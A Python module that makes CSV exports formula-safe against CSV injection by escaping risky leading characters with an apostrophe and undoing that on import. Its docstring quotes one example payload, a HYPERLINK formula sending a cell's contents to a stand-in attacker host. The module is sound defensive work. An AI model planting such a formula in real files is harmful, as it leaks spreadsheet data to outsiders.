"""Formula-neutral CSV for every export (CSV injection, OWASP).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some
also after a tab or CR) as a formula: a center named
``=HYPERLINK("https://evil.example/?"&A2,"open")`` exported by HQ and opened in
Excel leaks the sheet or worse. Every text cell that starts with one of those
characters gets a leading apostrophe, which spreadsheets show as text. Numbers
(int, Decimal, float) are written as numbers: a negative amount stays a number.

The escape is reversible so an export can be imported back unchanged
(``centers_import_csv`` calls ``csv_unescape``): a text that already starts with
an apostrophe followed by one of those characters (or another apostrophe) gets
one more apostrophe too.
"""

from __future__ import annotations

import csv
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"


def csv_cell(value: Any) -> Any:
    """One cell made safe: ``None`` -> blank, risky text -> ``'`` + text, anything else unchanged."""
    if value is None:
        return ""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_TRIGGERS or (value[0] == _QUOTE and value[1:2] in (*FORMULA_TRIGGERS, _QUOTE)):
        return _QUOTE + value
    return value


def csv_unescape(value: str) -> str:
    """Undo ``csv_cell`` on a text read back from one of our exports."""
    if value[:1] == _QUOTE and value[1:2] in (*FORMULA_TRIGGERS, _QUOTE):
        return value[1:]
    return value


class FormulaSafeWriter:
    """``csv.writer`` whose every row goes through ``csv_cell``. Use it for every export."""

    def __init__(self, stream, **kwargs) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **kwargs) -> FormulaSafeWriter:
    """The one way exports write CSV: ``csv_writer(response).writerow([...])``."""
    return FormulaSafeWriter(stream, **kwargs)
